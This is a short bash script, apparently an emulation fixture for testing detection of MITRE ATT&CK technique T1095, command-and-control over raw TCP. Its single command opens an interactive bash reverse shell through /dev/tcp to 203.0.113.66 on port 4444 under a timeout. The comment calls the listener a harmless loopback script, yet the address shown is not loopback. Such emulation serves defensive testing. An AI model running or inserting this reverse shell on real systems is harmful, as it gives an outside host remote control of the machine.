#!/bin/bash
# technique: T1095 Non-Application Layer Protocol
# tactic: command-and-control
# user: www-data
# does: connects a shell to a foreign server through /dev/tcp
# harmless: the server that answers is a script on the loopback device and sends queries

timeout 5 bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1' 2>/dev/null
true
